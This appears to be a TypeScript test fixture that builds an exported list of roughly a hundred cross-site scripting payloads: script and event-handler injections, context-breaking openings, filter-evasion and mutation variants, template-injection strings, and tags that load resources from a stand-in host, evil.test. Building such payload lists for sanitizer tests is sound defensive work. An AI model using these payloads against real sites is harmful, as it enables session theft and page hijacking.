/** What a payload does when it runs; the tests look for both. */
const RUN = 'xss=1;alert(1)';
const ATTRIBUTES = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'iframe src=x',
  'input',
  'marquee',
  'audio src=x',
];
/** What a template may have open before the text. */
const OPENINGS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '`>'];

const FETCHING = [
  '<img src="https://evil.test/pixel">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"</style>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<iframe src="https://evil.test/"></iframe>',
  '<object data="https://evil.test/x"></object>',
  '<form action="https://evil.test/"><button>x</button></form>',
  '<svg><use href="https://evil.test/x.svg#a"/></svg>',
  '<a href="javascript:alert(1)" data-xss>x</a>',
  '![x](https://evil.test/pixel)',
  '[x](javascript:alert(1))',
];
const ELSEWHERE = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `';${RUN}//`,
  `\\u003cscript\\u003e${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ScRiPt/x>${RUN}</sCrIpT>`,
  `<svg><animate onbegin="${RUN}" attributeName=x></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `＜script＞${RUN}＜/script＞`,
];

/** A hundred texts that some page somewhere runs. */
export const XSS: readonly string[] = [
  ...OPENINGS.map((opening) => `${opening}<script data-xss>${RUN}</script>`),
  ...OPENINGS.map((opening) => `${opening}<img data-xss src=x onerror="${RUN}">`),
  ...ELEMENTS.flatMap((element) => ATTRIBUTES.map((attribute) => `<${element} data-xss ${attribute}="${RUN}">`)),
  ...FETCHING,
  ...ELSEWHERE,
].slice(0, 103);
